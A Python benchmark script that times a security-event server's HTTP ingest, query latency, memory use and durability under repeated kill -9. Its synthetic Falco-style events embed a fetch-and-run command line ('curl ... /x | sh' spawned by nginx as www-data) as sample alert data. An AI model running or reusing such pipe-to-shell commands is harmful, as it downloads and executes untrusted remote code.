"""The server as a client meets it: durable ingest over HTTP, answers, bytes, memory, kill -9."""

from __future__ import annotations

import argparse
import datetime as dt
import os
import random
import re
import shutil
import signal
import statistics
import subprocess
import tempfile
import threading
import time
import uuid
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path

from bench.measure import HAECHI
from haechi.client.asks import Ask, ask
from haechi.client.http import Client
from haechi.errors import HaechiError

NDJSON = "application/x-ndjson"
RULES = [f"Rule {number:02d}: a process does what its image never did" for number in range(60)]
PRIORITIES = ("critical", "error", "warning", "warning", "notice", "notice", "informational")
TYPES = ("execve", "openat", "connect", "accept", "unlink", "ptrace")


class Events:
    """Events of about 1 KB in Falco's words, each with a random id, oldest first."""

    def __init__(self, seed: int, start_ns: int, step_ns: int) -> None:
        self._random = random.Random(seed)  # noqa: S311
        self._at = start_ns
        self._step = step_ns
        self._pods = [
            (f"shop-{n % 12}", f"api-{n:03d}-{self._random.getrandbits(40):010x}", n)
            for n in range(200)
        ]

    def batch(self, size: int) -> bytes:
        """``size`` events as NDJSON."""
        return b"\n".join(self._one() for _ in range(size))

    def _one(self) -> bytes:
        pick = self._random.random
        namespace, pod, number = self._pods[int(pick() * 200)]
        rule = RULES[int(pick() * 60)]
        kind = TYPES[int(pick() * 6)]
        priority = PRIORITIES[int(pick() * 7)]
        port = int(pick() * 60_000)
        self._at += self._step
        return (
            f'{{"id":"{uuid.UUID(int=self._random.getrandbits(128))}","ts_ns":{self._at},'
            f'"source":"falco","type":"{kind}","cluster":"prod","node":"node-{number % 9}",'
            f'"container_id":"{number:012x}","resource":"k8s:prod/apps/Deployment/{namespace}/api",'
            f'"namespace":"{namespace}","rule":"{rule}","priority":"{priority}",'
            f'"message":"{rule} (user=www-data command=sh -c id pid={port} parent=nginx)",'
            f'"fields":{{"evt.type":"{kind}","evt.dir":"<","proc.name":"sh","proc.pid":{port},'
            f'"proc.cmdline":"sh -c curl -s http://10.0.{number}.{port % 250}:{port}/x | sh",'
            f'"proc.pname":"nginx","proc.aname[2]":"containerd-shim","proc.exepath":"/bin/dash",'
            f'"user.name":"www-data","user.uid":33,"fd.name":"10.0.{number}.7:{port}->10.1.2.3:443",'
            f'"fd.rip":"10.1.2.3","fd.rport":443,"fd.l4proto":"tcp","container.name":"api",'
            f'"container.image.repository":"registry.example.org/shop/api",'
            f'"container.image.tag":"1.{number}.0","k8s.ns.name":"{namespace}",'
            f'"k8s.pod.name":"{pod}","k8s.pod.uid":"{uuid.UUID(int=number << 64 | port)}"}}}}'
        ).encode()


class Server:
    """A server process of its own, as a person starts it."""

    def __init__(self, folder: Path, token: str) -> None:
        self.folder = folder
        self.token = token
        self.process: subprocess.Popen[str] | None = None
        self.url = ""

    def start(self) -> float:
        """Start; seconds until it is ready."""
        began = time.monotonic()
        words = [*HAECHI, "up", "--no-scan", "--store", str(self.folder), "--listen", "127.0.0.1:0"]
        self.process = subprocess.Popen(
            words,
            stdout=subprocess.PIPE,
            stderr=(self.folder.parent / "server.log").open("ab"),
            text=True,
            env={k: v for k, v in os.environ.items() if k != "PYTHONDONTWRITEBYTECODE"},
        )
        out = self.process.stdout
        if out is None:
            raise AssertionError
        for line in out:
            if found := re.search(r"https?://[\w.:\[\]]+", line):
                self.url = found[0]
                break
        else:
            raise RuntimeError("the server did not start; see server.log beside the store")
        threading.Thread(target=out.read, daemon=True).start()
        with self.client() as client:
            while client.raw(ask("GET", "/readyz")).status != 200:
                time.sleep(0.02)
        return time.monotonic() - began

    def client(self) -> Client:
        """A client with the token."""
        return Client(self.url, self.token)

    def stop(self, number: int = signal.SIGTERM) -> float:
        """Signal it; seconds until it is gone."""
        if self.process is None:
            return 0.0
        began = time.monotonic()
        self.process.send_signal(number)
        self.process.wait(30)
        if self.process.stdout:
            self.process.stdout.close()
        self.process = None
        return time.monotonic() - began

    def cpu(self) -> float:
        """CPU seconds so far."""
        if self.process is None:
            return 0.0
        fields = Path(f"/proc/{self.process.pid}/stat").read_text().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def memory(self, what: str = "VmRSS") -> float:
        """MiB: VmRSS now, VmHWM at most."""
        if self.process is None:
            return 0.0
        text = Path(f"/proc/{self.process.pid}/status").read_text()
        found = re.search(rf"{what}:\s+(\d+) kB", text)
        return int(found[1]) / 1024 if found else 0.0


@contextmanager
def prepared(where: Path | None) -> Iterator[tuple[Path, str]]:
    """A new store and an administrator's token for it."""
    from haechi.model.access import Grant, Role
    from haechi.store.state.access_tokens import NewToken
    from haechi.store.store import Store

    root = Path(tempfile.mkdtemp(prefix="haechi-bench-", dir=where))
    try:
        store = Store.open(root / "store")
        wanted = NewToken(name="bench", grants=(Grant(role=Role.ADMIN),))
        _, token = store.state.access.tokens.make(wanted, by="bench")
        store.close()
        yield root / "store", token
    finally:
        shutil.rmtree(root, ignore_errors=True)


def main(argv: list[str]) -> None:
    """Print the figures."""
    parser = argparse.ArgumentParser(prog="./dev bench store", description=__doc__)
    parser.add_argument("--events", type=int, default=1_000_000)
    parser.add_argument("--batch", type=int, default=1_000)
    parser.add_argument("--findings", type=int, default=50_000)
    parser.add_argument("--clients", type=int, default=2, help="connections that send at a time")
    parser.add_argument("--more", type=int, default=10_000, help="small pushes and looks besides")
    parser.add_argument("--kills", type=int, default=0, help="rounds of kill -9 instead")
    parser.add_argument("--spread", type=float, default=1.0, help="hours that the events span")
    parser.add_argument("--on", type=Path, help="folder for the store")
    options = parser.parse_args(argv)
    with prepared(options.on) as (folder, token):
        server = Server(folder, token)
        if options.kills:
            kills(server, options.kills)
            return
        print(f"start              {server.start():8.2f} s")
        try:
            if options.findings:
                push(server, options.findings)
            ingest(server, options)
            sizes(server)
            answers(server)
            print(f"memory             {server.memory():8.0f} MiB")
            if options.more:
                day_to_day(server, options.more)
            most = server.memory("VmHWM")
            print(f"memory             {server.memory():8.0f} MiB now, {most:.0f} most")
        finally:
            print(f"stop               {server.stop():8.2f} s")
        print(f"start again        {server.start():8.2f} s")
        server.stop()


def ingest(server: Server, options: argparse.Namespace) -> None:
    """Send batches over several connections; the answer means durable."""
    step = int(options.spread * 3600e9 / max(options.events, 1))
    start = time.time_ns() - int(options.spread * 3600e9)
    per = options.events // options.clients
    before = server.cpu()
    own = time.process_time()
    sent = [0] * options.clients
    seconds = [0.0] * options.clients

    def send(number: int) -> None:
        made = Events(number, start + number, step * options.clients)
        with server.client() as client:
            while sent[number] < per:
                body = made.batch(min(options.batch, per - sent[number]))
                one = Ask(method="POST", path="/api/v1/events", body=body, type=NDJSON)
                began = time.monotonic()
                answer = client.send(one)
                seconds[number] += time.monotonic() - began
                if answer["refused"] or answer["duplicates"]:
                    raise RuntimeError(f"refused or twice: {answer}")
                sent[number] += answer["accepted"]

    began = time.monotonic()
    _together([lambda n=n: send(n) for n in range(options.clients)])  # type: ignore[misc]
    wall = time.monotonic() - began
    total = sum(sent)
    print(
        f"ingest over HTTP   {total / wall:8,.0f} events/s durable "
        f"({total:,} of {_size():,} B, {options.batch:,} a batch, {options.clients} connections; "
        f"server {1e6 * (server.cpu() - before) / total:.1f} µs CPU an event, "
        f"client {1e6 * (time.process_time() - own) / total:.1f})"
    )


def _size() -> int:
    sample = Events(0, time.time_ns(), 1).batch(1000)
    return round((len(sample) + 1) / 1000)


def _together(works: Sequence[Callable[[], None]]) -> None:
    failed: list[BaseException] = []

    def run(work: Callable[[], None]) -> None:
        try:
            work()
        except BaseException as error:  # noqa: BLE001 -- told below, by the main thread
            failed.append(error)

    threads = [threading.Thread(target=run, args=(work,)) for work in works]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    if failed:
        raise failed[0]


def push(server: Server, count: int) -> None:
    """Pushes with that many findings in all, then the same again."""
    from bench.server_api import pushes

    for name in ("push", "push again"):
        documents = list(pushes(count))
        with server.client() as client:
            began = time.monotonic()
            changes = [client.push(one)["scan"]["changes"] for one in documents]
            took = time.monotonic() - began
        new = sum(change.get("new", 0) for change in changes)
        print(f"{name:<18} {took:8.2f} s for {count:,} findings in {len(changes)} ({new:,} new)")


def day_to_day(server: Server, count: int) -> None:
    """Small pushes, each followed by the first screen (which nothing remembered serves then), and
    looks: what a server does all day, before its memory is read."""
    from bench.server_api import small_push

    looks = [
        ask("GET", "findings"),
        ask("GET", "findings", query={"namespace": "team-3"}),
        ask("GET", "resources"),
        ask("GET", "scans"),
        ask("GET", "events"),
        ask("GET", "events/series", query={"by": "priority"}),
        ask("GET", "audit"),
        ask("GET", "health"),
    ]
    after: list[float] = []
    began, cpu = time.monotonic(), server.cpu()
    with server.client() as client:
        for number in range(count):
            if number % 10 == 0:
                client.push(small_push(number // 10))
                after.append(_timed(client, ask("GET", "now")))
            else:
                client.send(looks[number % len(looks)])
    took, cpu = time.monotonic() - began, server.cpu() - cpu
    _told("now, after a push", after)
    print(
        f"day to day         {count:,} small pushes and looks in {took:.0f} s, "
        f"{1000 * cpu / count:.1f} ms of the server's CPU each"
    )


def sizes(server: Server) -> None:
    """Bytes of an event, by the server's own health page."""
    with server.client() as client:
        for part in client.request("GET", "health")["parts"]:
            if part["name"] == "events":
                for name, value in sorted(part["figures"].items()):
                    print(f"  events.{name:<18} {value}")


def answers(server: Server) -> None:
    """Percentiles of what the page asks for."""
    now = dt.datetime.now(dt.UTC)
    day = {"since": now - dt.timedelta(days=1), "until": now}
    month = {"since": now - dt.timedelta(days=30), "until": now}
    asked = {
        "now": ask("GET", "now"),
        "findings, first page": ask("GET", "findings"),
        "findings, facets": ask("GET", "findings/facets"),
        "findings, by rule": ask("GET", "findings/groups", query={"by": "rule"}),
        "findings, text": ask("GET", "findings", query={"text": "privileged"}),
        "panel, a day by rule": ask("GET", "events/series", query={"by": "rule", **day}),
        "panel, a month": ask("GET", "events/series", query={"by": "priority", **month}),
        "events, newest": ask("GET", "events", query=day),
        "events, one namespace": ask("GET", "events", query={"namespace": "shop-3", **day}),
    }
    with server.client() as client:
        for name, one in asked.items():
            _told(name, [_timed(client, one) for _ in range(40)])
        began = time.monotonic()
        first = 0.0
        rows = ranges = 0
        for line in client.search_events(text="10.0.77.77", **day):
            if "event" in line:
                rows += 1
                first = first or time.monotonic() - began
            ranges += "range" in line
        print(
            f"  search by text         first {first:.2f} s, "
            f"whole {time.monotonic() - began:.2f} s, "
            f"{rows} events, {ranges} ranges told"
        )


def _told(name: str, seconds: Sequence[float]) -> None:
    times = sorted(seconds)
    print(
        f"  {name:<22} p50 {1000 * statistics.median(times):7.1f} ms   "
        f"p95 {1000 * times[int(0.95 * len(times))]:7.1f} ms",
        flush=True,
    )


def _timed(client: Client, one: Ask) -> float:
    began = time.monotonic()
    client.send(one)
    return time.monotonic() - began


def kills(server: Server, rounds: int) -> None:
    """kill -9 during ingest, again and again: is everything acknowledged still there?"""
    chosen = random.Random(7)  # noqa: S311
    acknowledged: set[str] = set()
    lost = broken = 0
    slowest = 0.0
    pattern = re.compile(rb'"id":"([0-9a-f-]{36})"')
    for number in range(rounds):
        slowest = max(slowest, server.start())
        stop_at = time.monotonic() + chosen.uniform(0.2, 1.5)
        killer = threading.Timer(stop_at - time.monotonic(), server.stop, (signal.SIGKILL,))
        made = Events(1000 + number, time.time_ns() - int(3 * 3600e9), 9_000_000)
        killer.start()
        try:
            with server.client() as client:
                while True:
                    body = made.batch(500)
                    one = Ask(
                        method="POST", path="/api/v1/events", body=body, type=NDJSON, again=False
                    )
                    client.send(one)
                    acknowledged.update(found.decode() for found in pattern.findall(body))
        except HaechiError:
            pass  # the kill, as it looks from here: this batch was not acknowledged
        killer.join()
        if number % 10 == 9 or number == rounds - 1:
            slowest = max(slowest, server.start())
            kept, faults = _kept(server)
            lost += len(acknowledged - kept)
            broken += faults
            server.stop()
            print(
                f"  {number + 1:4d} kills: {len(acknowledged):,} acknowledged, {lost} lost, "
                f"{broken} unreadable files, slowest start {slowest:.2f} s",
                flush=True,
            )


def _kept(server: Server) -> tuple[set[str], int]:
    """Ids of all events that the server still has, and how many files it cannot read."""
    with server.client() as client:
        kept = {line["event"]["id"] for line in client.lines("events", {"format": "ndjson"})}
        parts = client.request("GET", "health")["parts"]
        figures = next(part["figures"] for part in parts if part["name"] == "events")
    return kept, len(figures["lost_files"]) + len(figures["stray_files"])
